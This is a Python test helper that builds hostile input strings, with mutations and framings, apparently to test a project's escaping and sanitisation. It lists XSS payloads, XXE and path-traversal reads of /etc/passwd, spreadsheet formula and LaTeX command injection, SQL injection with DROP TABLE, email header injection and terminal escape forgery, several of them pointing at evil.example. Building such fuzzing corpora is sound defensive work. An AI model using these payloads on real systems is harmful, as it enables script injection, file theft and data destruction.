"""Hostile strings: shapes of our own, those of corpora that may lie beside the repository, mutations of both."""

import json
import random
from collections.abc import Callable, Iterable, Iterator
from itertools import cycle

from tests.conftest import SHARED

CORPORA = SHARED / "data" / "hostile"

# Each would set `__hit` or leave a mark if it came alive where it is written.
SHAPES: tuple[str, ...] = (
    "<script>__hit=1</script>",
    "</script><script>__hit=1</script>",
    "</title><script>__hit=1</script>",
    "</textarea></style></noscript></template><img src=x onerror=__hit=1>",
    "<img src=x onerror=__hit=1>",
    "<svg/onload=__hit=1>",
    "<svg><script>__hit=1</script></svg>",
    "<svg><animate onbegin=__hit=1 attributeName=x dur=1s>",
    "<math><mi xlink:href=javascript:__hit=1>x</mi></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=__hit=1&gt;'>",
    "<iframe srcdoc='<script>parent.__hit=1</script>'>",
    "<base href=//evil.example/><a href=x>y</a>",
    "<meta http-equiv=refresh content=0;url=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import'//evil.example/x.css';*{display:none}</style>",
    "<form action=//evil.example/><button formaction=javascript:__hit=1>x</button>",
    "<input autofocus onfocus=__hit=1>",
    "<details open ontoggle=__hit=1><summary>x</summary></details>",
    "<video><source onerror=__hit=1></video><audio src=x onerror=__hit=1>",
    "<object data=javascript:__hit=1></object><embed src=//evil.example/x>",
    '" onmouseover="__hit=1" autofocus onfocus="__hit=1',
    "' onmouseover='__hit=1' autofocus onfocus='__hit=1",
    "` onmouseover=`__hit=1`",
    " onmouseover=__hit=1 x=",
    '"><img src=x onerror=__hit=1>',
    "'><img src=x onerror=__hit=1>",
    "--><img src=x onerror=__hit=1><!--",
    "]]><img src=x onerror=__hit=1><![CDATA[",
    "]]></content></entry><entry><title>forged</title></entry>",
    "<!--",
    "<!DOCTYPE html [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>&x;",
    "<?xml-stylesheet href='//evil.example/x.xsl'?>",
    "&lt;script&gt;__hit=1&lt;/script&gt;",
    "&amp;lt;img src=x onerror=__hit=1&amp;gt;",
    "&#60;img src=x onerror=__hit=1&#62; &#x3c;b&#x3e; &lt",
    "javascript:__hit=1",
    "JaVaScRiPt&#58;__hit=1",
    "java\tscript:__hit=1",
    "\x01javascript:__hit=1",
    "data:text/html,<script>__hit=1</script>",
    "vbscript:msgbox(1)",
    "//evil.example/x",
    "\\\\evil.example\\x",
    'https://a.example/"onmouseover="__hit=1',
    "https://a.example/'><script>__hit=1</script>",
    "https://user:pass@a.example:99999/<b>?x=\"#'",
    "https://[::1/x https://a.example\\@evil.example/",
    "mailto:a@b.example?bcc=x@y.example&body=<script>",
    "[x](javascript:__hit=1) ![x](https://evil.example/x.png) <javascript:__hit=1>",
    "[x]: javascript:__hit=1\n\n[x] ![x][x]",
    '[x](https://a.example "\\"onclick=__hit=1")',
    "```<script>\n__hit=1\n```\n# <img src=x onerror=__hit=1> {: onclick=x }",
    r"$\text{<img src=x onerror=__hit=1>}$",
    r"$\href{javascript:__hit=1}{x}$ \href{javascript:__hit=1}{x} \url{javascript:__hit=1}",
    r"$\class{x}{y}\style{color:red}{x}\unicode{x3c}\color{red;background:url(//evil.example)}x$",
    r"\input{/etc/passwd} \write18{id} \def\x{\x\x}\x $\def\x{\x\x}\x$",
    "}, author = {Forged}, url = {javascript:__hit=1}}\n@article{forged, title = {Forged}}",
    "\\} @article{forged, title = {Forged}} { % #",
    '"} # forged # "{',
    "x\nER  - \nTY  - JOUR\nTI  - Forged\nER  - \n",
    "x\r\nBcc: y@evil.example\r\n\r\nforged",
    "=?utf-8?q?=0d=0aBcc:_x=40evil.example?=",
    "=cmd|' /C calc'!A1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1-1 -2+3 \t=1+1",
    "x\n# Forged\n\n- forged: <b>\n\n| a | b |\n|---|---|",
    "---\ntitle: forged\n---\n- title: forged",
    "{{ 7 * 7 }} {% include '/etc/passwd' %} {# x #} {{ self.__init__ }} ${7*7} #{7*7} <%= 7*7 %> %s {0} %(x)s",
    "{{ unsubscribe_url }} {{{ x }}} @TrackLink {{ TrackView }} https://unsubscribe.invalid/",
    "\u202egnp.exe\u202c \u2066x\u2067y\u2068z\u2069 \u200e\u200f\u061c",
    "a\x00b\x07c\x08d\x0be\x0cf\x1bg\x7fh\x85i\x9bj",
    "\x1b[2J\x1b]0;forged\x07\x1b]8;;https://evil.example\x07x\x1b[31m\x9b2K",
    "x\r\x1b[1A\x1b[2Kpapers/forged.yaml:1: forged",
    "\ufdd0unsubscribe\ufdd1 \ufdd00\ufdd1 \x02stash:0\x03 \x02wzxhzdk:0\x03 <!--\ufdd0papers\ufdd1-->",
    "\ufffe\uffff\U0001fffe \ufeff \u2028x\u2029y \u00ad\u200b\u2060",
    "\ud800 lone \udfff",
    "Z\u0338\u0337" + "\u0316\u0300" * 40 + " \U0001f9d1\u200d\U0001f52c \ufdfd",
    "../../../../etc/passwd",
    "..\\..\\x:y NUL con.html \u2025/\uff0e\uff0e/",
    "undefined null true NaN 1e999 0x0 -0 {} [] \\ \\\\ \\n % # ?",
    "__proto__ constructor hasOwnProperty",
    "' OR 1=1 -- \" ; DROP TABLE papers; --",
    "x" * 400,
    "\u0627\u0644\u0639\u0631\u0628\u064a\u0629 <b dir=rtl>\u05e9\u05dc\u05d5\u05dd</b>",
)

# What a string may stand in, at the place of §: each breaks out of another place.
FRAMES: tuple[str, ...] = (
    '"§',
    "'§",
    "§>",
    "<b>§</b>",
    "https://a.example/§",
    "$x$ § $\\frac{1}{2}$",
    "$\\text{§}$",
    "[§](§)",
    "\\href{§}{§}",
    "<!-- §",
    "§\n\n§",
    "&lt;§&gt;",
    "\u202e§",
)
SPOILERS: tuple[Callable[[str], str], ...] = (
    lambda text: text,
    lambda text: text.replace("=", "\t=\n"),
    str.swapcase,
    lambda text: text.replace("<", "&lt;"),
    lambda text: f"\0{text}",
)


def corpora() -> list[str]:
    """Return the strings of the corpora; none where they are absent."""
    files = sorted(CORPORA.glob("*.jsonl"))
    return [json.loads(line)["text"] for file in files for line in file.read_text(encoding="utf-8").splitlines()]


def mutated(texts: Iterable[str]) -> Iterator[str]:
    """Yield each text in a frame, some of them spoilt by a control, an entity or the other case."""
    for text, frame, spoil in zip(texts, cycle(FRAMES), cycle(SPOILERS), strict=False):
        yield spoil(frame.replace("§", text))


def payloads(part: int, count: int) -> list[str]:
    """Return `count` strings, the same for the same part: in turn shapes of ours, of the corpora, and mutations."""
    order = random.Random(part)  # noqa: S311 - reproducible, not secret
    known = corpora() or list(SHAPES)
    own, theirs = [order.sample(texts, len(texts)) for texts in (list(SHAPES), known)]
    mutations = mutated(order.choices([*own, *known], k=count))
    return [text for turn in zip(cycle(own), cycle(theirs), mutations, strict=False) for text in turn][:count]
